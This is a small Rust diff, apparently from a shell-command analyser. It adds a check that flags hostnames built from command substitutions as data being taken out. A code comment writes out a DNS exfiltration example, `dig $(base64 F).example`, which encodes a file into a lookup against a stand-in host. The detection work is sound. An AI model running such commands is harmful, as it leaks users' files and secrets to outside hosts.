@@ -34,6 +34,12 @@ impl<'w> Roles<'_, '_, 'w> {
     pub(super) fn host(&mut self, argument: &Argument<'w>) {
         let object = self.object(argument);
         self.contact(object);
+        // `dig $(base64 F).example`, but not `ssh $(cat F)` and `ssh me@$(cat F)`.
+        let text = argument.word.text();
+        let is_part = argument.word.holes().all(|hole| hole.range.end < text.len());
+        if is_part && !text.contains('@') {
+            self.taken(argument.word);
+        }
     }
 
     /// An address: a machine, or a file here.
